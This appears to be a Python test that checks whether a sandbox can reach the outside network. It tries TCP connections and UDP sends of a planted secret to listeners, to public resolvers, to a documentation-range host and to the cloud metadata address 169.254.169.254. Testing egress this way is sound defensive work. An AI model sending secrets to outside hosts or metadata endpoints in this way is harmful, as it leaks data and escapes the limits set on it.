"""Sends what it knows to a machine outside: over TCP, over UDP, in a question for a name, to the cloud's own address."""

import socket

from attempts import attempt, run
from planted import SECRET_TO_SEND, TCP, UDP

OUTSIDE = (("192.0.2.77", 80), ("8.8.8.8", 53), ("169.254.169.254", 80), ("1.1.1.1", 443))


@attempt
def connects_to_the_listener(node):
    return [place for place in TCP if connects(tuple(place))]


@attempt
def sends_to_the_listener(node):
    return [place for place in UDP if sends(tuple(place)) and not place[0].startswith("127.")]


@attempt
def connects_to_the_world(node):
    return [place for place in OUTSIDE if connects(place)]


@attempt
def sends_to_the_world(node):
    return [place for place in OUTSIDE if sends(place)]


@attempt
def over_the_newer_protocol(node):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as there:
        return there.sendto(SECRET_TO_SEND, ("2001:db8::1", 53))


def connects(place):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as there:
        there.setblocking(False)
        # 115: the connection is under way, so there is a way out.
        return there.connect_ex(place) in (0, 115) and not place[0].startswith("127.")


def sends(place):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        try:
            return there.sendto(SECRET_TO_SEND, place)
        except OSError:
            return False


run()
